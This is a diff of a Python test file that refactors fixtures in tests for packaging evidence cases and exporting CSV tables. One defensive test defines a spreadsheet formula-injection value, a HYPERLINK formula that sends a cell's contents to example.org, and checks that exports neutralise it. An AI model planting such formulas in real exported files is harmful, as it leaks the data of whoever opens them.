@@ -24,15 +24,12 @@ from evidence.answer.report import render_answer
 from evidence.case.case import Case
 from evidence.case.pack import pack
 from evidence.case.queue import FootageSource, add_work
-from evidence.case.tables import Item, Recipe
+from evidence.case.tables import Item
 from evidence.case.unpack import unpack
 from evidence.pdf import write_pdf
 from tests.evidence.answer.conftest import Builder, judge_all
 from tests.evidence.answer.made import ONE, drawn
 from tests.evidence.case.conftest import encoded
-
-Build = Callable[[Callable[[Builder], object]], object]
-
 
 ON_SQLITE = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
 """In a package every case is on SQLite: harm that is done there does not depend on where it was."""
@@ -61,14 +58,15 @@ def package(
     case: Case,
     database: str | None,
     registry: Registry,
-    build: Callable[[Callable[[Builder], None]], object],
+    b: Builder,
     made: dict[str | None, Path],
     tmp_path: Path,
     tmp_path_factory: pytest.TempPathFactory,
 ) -> Path:
     kind = database and "postgresql"
     if kind not in made:
-        build(fill)
+        fill(b)
+        b.write()
         folder = tmp_path_factory.mktemp("package")
         write_package(case, Question(), registry, folder / "package")
         made[kind] = folder / "package"
@@ -153,16 +151,13 @@ def test_what_an_answer_was_computed_from_is_compared_too(package: Path) -> None
 
 
 def test_no_package_is_made_of_a_case_that_contradicts_itself(
-    case: Case, registry: Registry, build: Build, tmp_path: Path
+    case: Case, registry: Registry, b: Builder, tmp_path: Path
 ) -> None:
     """An item stands as if more people had judged it than did."""
-
-    def fill(b: Builder) -> None:
-        b.add("Plant 1", claim="dmtg", outcome="accept")
-        judge_all(b.session)
-        b.session.query(Item).update({"given": 9})
-
-    build(fill)
+    b.add("Plant 1", claim="dmtg", outcome="accept")
+    judge_all(b.session)
+    b.session.query(Item).update({"given": 9})
+    b.write()
     with pytest.raises(CaseDamaged, match=r"contradicts itself: item .* does not agree") as raised:
         write_package(case, Question(), registry, tmp_path / "package")
     assert str(case.folder) in str(raised.value)
@@ -209,18 +204,16 @@ def test_a_package_that_is_not_what_it_was(
 
 @pytest.mark.parametrize("harm", [alter, Path.unlink])
 def test_a_picture_that_is_no_longer_what_it_was_is_told_of_and_not_shown(
-    case: Case, registry: Registry, build: Build, tmp_path: Path, harm: Callable[[Path], None]
+    case: Case, registry: Registry, b: Builder, tmp_path: Path, harm: Callable[[Path], None]
 ) -> None:
     pictures = [encoded(number, "JPEG") for number in range(2)]
     kept, lost = map(case.put_still, pictures)
 
-    def fill(b: Builder) -> None:
-        for sha256 in (kept, lost):
-            b.add("Plant 1", claim="dmtg", outcome="accept")
-            b.still(sha256)
-        judge_all(b.session)
-
-    build(fill)
+    for sha256 in (kept, lost):
+        b.add("Plant 1", claim="dmtg", outcome="accept")
+        b.still(sha256)
+    judge_all(b.session)
+    b.write()
     harm(case.still(lost, "jpg"))
     read, lacking = write_package(case, Question(), registry, tmp_path / "package")
     (line,) = lacking
@@ -273,8 +266,10 @@ def test_it_says_what_it_is_in_plain_words(package: Path) -> None:
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'
 
 
-def test_no_cell_is_a_formula(case: Case, build: Build, tmp_path: Path) -> None:
-    build(lambda b: (b.add(FORMULA, claim="mazak"), b.add("-2", claim="haas")))
+def test_no_cell_is_a_formula(case: Case, b: Builder, tmp_path: Path) -> None:
+    b.add(FORMULA, claim="mazak")
+    b.add("-2", claim="haas")
+    b.write()
     with case.snapshot() as session:
         write_tables(session, [drawn(ONE, 0.02)], tmp_path)
     with (tmp_path / "locations.csv").open(newline="") as file:
@@ -288,15 +283,13 @@ def test_no_cell_is_a_formula(case: Case, build: Build, tmp_path: Path) -> None:
 
 
 def test_what_waits_to_be_looked_at_waits_in_a_package_too(
-    case: Case,
-    registry: Registry,
-    build: Callable[[Callable[[Builder], None]], Recipe],
-    tmp_path: Path,
+    case: Case, registry: Registry, b: Builder, tmp_path: Path
 ) -> None:
     """Opening a pack sets it aside, and what could not be looked at holds up no "None"."""
-    recipe = build(fill)
+    fill(b)
+    b.write()
     with case.session() as session, session.begin():
-        add_work(session, recipe, [FootageSource("/archive/more.mp4", 1, 1)])
+        add_work(session, b.recipe, [FootageSource("/archive/more.mp4", 1, 1)])
     there = read_case(case, Question(), registry).answer
     here = write_package(case, Question(), registry, tmp_path / "package")[0].answer
     assert (here.caveat("not_looked_at"), here.caveat("set_aside")) == (1, 0)
